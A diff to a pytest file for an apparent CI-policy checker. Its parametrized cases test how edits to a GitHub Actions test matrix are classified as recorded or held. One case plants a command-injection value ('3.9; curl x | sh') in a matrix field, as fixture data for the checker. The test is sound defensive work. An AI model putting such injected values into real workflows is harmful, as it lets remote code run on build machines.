@@ -235,45 +235,56 @@ _TESTS_YAML = (
 )
 
 
+# SPEC §2.1: the job reaches nothing (no permissions, secrets, environment, privileged
+# trigger; hosted runners), so matrix entries and its steps are allowed and recorded; a
+# self-hosted runner is a grant.
 @pytest.mark.parametrize(
-    ("head", "held"),
+    ("head", "rule", "code"),
     [
-        pytest.param(_TESTS_YAML.replace(b"          - {python: '3.9'}\n", b""), False, id="drop"),
+        pytest.param(
+            _TESTS_YAML.replace(b"          - {python: '3.9'}\n", b""),
+            "ci-matrix-changed",
+            0,
+            id="drop",
+        ),
         pytest.param(
             _TESTS_YAML.replace(b"'3.10'}", b"'3.10'}\n          - {python: '3.14'}"),
-            False,
+            "ci-matrix-changed",
+            0,
             id="add",
         ),
         pytest.param(
             _TESTS_YAML.replace(b"{python: '3.9'}", b"{python: '3.9', os: self-hosted}"),
-            True,
+            "ci-privilege-changed",
+            11,
             id="self-hosted-runner",
         ),
         pytest.param(
             _TESTS_YAML.replace(b"{python: '3.9'}", b"{python: '3.9; curl x | sh'}"),
-            True,
-            id="value-that-injects",
+            "ci-workflow-changed",
+            0,
+            id="value-that-injects-into-a-job-that-reaches-nothing",
         ),
         pytest.param(
             _TESTS_YAML.replace(b"          - {python: '3.9'}\n", b"").replace(
                 b"tox run", b"tox run --skip"
             ),
-            True,
+            "ci-workflow-changed",
+            0,
             id="matrix-and-a-step",
         ),
     ],
 )
 def test_a_workflow_matrix_change_is_recorded_not_held(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], head: bytes, held: bool
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], head: bytes, rule: str, code: int
 ) -> None:
     base = {
         b".github/proofgate.yml": _config("pytest"),
         b".github/workflows/tests.yaml": _TESTS_YAML,
     }
-    code, found = _policy(tmp_path, capsys, base, {b".github/workflows/tests.yaml": head})
-    assert ("ci-workflow-changed" in found) is held, found
-    assert ("ci-matrix-changed" in found) is not held
-    assert code == (11 if held else 0)
+    got, found = _policy(tmp_path, capsys, base, {b".github/workflows/tests.yaml": head})
+    assert rule in found, found
+    assert got == code, found
 
 
 # pallets/click 4e869f3a172a: uv.lock refreshed alone. Only uv installs from it.
